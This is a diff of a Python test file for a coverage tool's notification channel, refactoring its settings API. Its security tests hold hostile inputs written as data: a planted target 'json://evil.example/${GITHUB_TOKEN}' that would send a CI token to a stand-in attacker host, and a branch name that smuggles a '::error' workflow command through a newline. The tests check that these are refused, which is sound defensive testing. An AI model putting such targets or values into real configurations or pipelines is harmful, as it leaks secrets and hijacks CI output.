@@ -2,7 +2,7 @@ from __future__ import annotations
 
 from collections.abc import Mapping
 from dataclasses import replace
-from datetime import time, timedelta
+from datetime import timedelta
 
 import pytest
 from msgspec import structs
@@ -10,23 +10,23 @@ from msgspec import structs
 from covgov.ci.interface import CiContext, CiEvent
 from covgov.errors import NotConfigured, PolicyInvalid
 from covgov.model.verdict import Verdict
-from covgov.policy.notification import NotifyPolicy, Occasion, QuietHours
+from covgov.policy.delivery import NotifySettings, Occasion
 from covgov.policy.policy import Policy
 from covgov.publish.channels.interface import Parcel
 from covgov.publish.channels.notify import NOTIFY, digest_parcels
 from covgov_testing.builders import verdict as build
-from covgov_testing.builders.publication import MAIN, NOW, RUN, below, dropped, publication, telling
+from covgov_testing.builders.publication import MAIN, NOW, RUN, alerting, below, dropped, publication, telling
 from covgov_testing.receivers import receiver
 
 A, B = "${A}", "${B}"
 RED, GREEN = build.verdict(below(), dropped()), build.verdict()
 
 
-def parcels(now: Verdict, before: Verdict | None, notify: NotifyPolicy, ci: CiContext = MAIN) -> list[Parcel]:
+def parcels(now: Verdict, before: Verdict | None, notify: NotifySettings, ci: CiContext = MAIN) -> list[Parcel]:
     return list(NOTIFY.parcels(publication(now, before, notify=notify, ci=ci)))
 
 
-def why(notify: NotifyPolicy, ci: CiContext = MAIN, now: Verdict = RED) -> str:
+def why(notify: NotifySettings, ci: CiContext = MAIN, now: Verdict = RED) -> str:
     assert not parcels(now, None, notify, ci)
     return NOTIFY.silence(publication(now, notify=notify, ci=ci))
 
@@ -43,7 +43,7 @@ def test_a_target_of_several_occasions_gets_one_message() -> None:
 
 
 def test_each_target_gets_its_occasions() -> None:
-    notify = NotifyPolicy({Occasion.DROP: (A, B), Occasion.UNDER_BAR: (B,)}, required=frozenset({B}))
+    notify = alerting({Occasion.DROP: (A, B), Occasion.UNDER_BAR: (B,)}, required=(B,))
     first, second = parcels(RED, None, notify)
     assert (first.destination, first.subject.partition(": ")[2]) == (A, "dropped: api")
     assert (second.destination, second.subject.partition(": ")[2]) == (B, "dropped: api; under the bar: api")
@@ -69,7 +69,7 @@ def test_an_unchanged_state_sends_nothing() -> None:
     ],
 )
 def test_branches_are_filtered(branches: tuple[str, ...], branch: str, sent: bool) -> None:
-    notify = replace(telling(Occasion.DROP), branches=branches)
+    notify = telling(Occasion.DROP).model_copy(update={"branches": branches})
     assert bool(parcels(RED, None, notify, replace(MAIN, branch=branch))) is sent
 
 
@@ -85,20 +85,19 @@ def test_a_default_branch_is_not_a_pattern() -> None:
 @pytest.mark.security
 @pytest.mark.parametrize("event", [CiEvent.PULL_REQUEST, CiEvent.MERGE_QUEUE])
 def test_a_pull_request_sends_no_alert_even_from_a_branch_called_main(event: CiEvent) -> None:
-    assert why(replace(telling(Occasion.DROP), branches=("main",)), replace(MAIN, event=event)) == (
-        "pull requests send no alerts"
-    )
+    notify = alerting({Occasion.DROP: (A,)}, branches=("main",))
+    assert why(notify, replace(MAIN, event=event)) == "pull requests send no alerts"
 
 
 def test_quiet_hours_are_respected() -> None:
-    notify = replace(telling(Occasion.DROP), quiet=QuietHours(time(11), time(13)))
+    notify = alerting({Occasion.DROP: (A,)}, quiet_hours="11:00-13:00")
     assert why(notify) == "quiet hours until 13:00 UTC"
     later = publication(RED, notify=notify, at=NOW + timedelta(hours=1))
     assert len(NOTIFY.parcels(later)) == 1
 
 
 def test_having_nothing_to_send_has_a_reason() -> None:
-    assert why(NotifyPolicy()) == "[notify] names no target"
+    assert why(NotifySettings()) == "[notify] names no target"
     assert why(telling(Occasion.DIGEST)) == "[notify] names no target"
     assert why(telling(Occasion.DROP), now=GREEN) == "nothing changed for the occasions of a target"
     assert why(telling(Occasion.DROP), replace(MAIN, branch="x\n::error")) == r"branch x\n::error is none of main"
@@ -108,7 +107,7 @@ def test_having_nothing_to_send_has_a_reason() -> None:
 @pytest.mark.security
 def test_a_literal_target_is_always_refused() -> None:
     with pytest.raises(PolicyInvalid, match=r"notify\.on_drop\[1\]"):
-        parcels(GREEN, GREEN, NotifyPolicy({Occasion.DROP: (A, "slack://T0/B0/C0")}))
+        parcels(GREEN, GREEN, alerting({Occasion.DROP: (A, "slack://T0/B0/C0")}))
 
 
 def test_sending_reads_the_address_from_the_environment() -> None:
@@ -129,7 +128,7 @@ def test_without_the_variable_nothing_is_sent() -> None:
 
 @pytest.mark.security
 def test_a_spooled_parcel_goes_only_where_the_policy_sends_one() -> None:
-    policy = replace(Policy(), notify=telling(Occasion.DROP, target=A))
+    policy = Policy(notify=telling(Occasion.DROP, target=A))
     (one,) = parcels(RED, None, policy.notify)
     assert NOTIFY.refusal(one, policy) == ""
     planted = replace(one, body={**one.body, "target": "json://evil.example/${GITHUB_TOKEN}"})
@@ -143,7 +142,7 @@ DIGEST = (
 
 
 def test_the_digest_goes_to_its_subscribers() -> None:
-    notify = NotifyPolicy({Occasion.DIGEST: (A,), Occasion.DROP: (B,)}, quiet=QuietHours(time(0), time(23, 59)))
+    notify = alerting({Occasion.DIGEST: (A,), Occasion.DROP: (B,)}, quiet_hours="00:00-23:59")
     (one,) = digest_parcels(DIGEST, notify, MAIN, "acme/shop")
     assert (one.destination, one.subject) == (A, "Coverage digest 2026-W47: acme/shop")
     assert one.body["severity"] == "info"
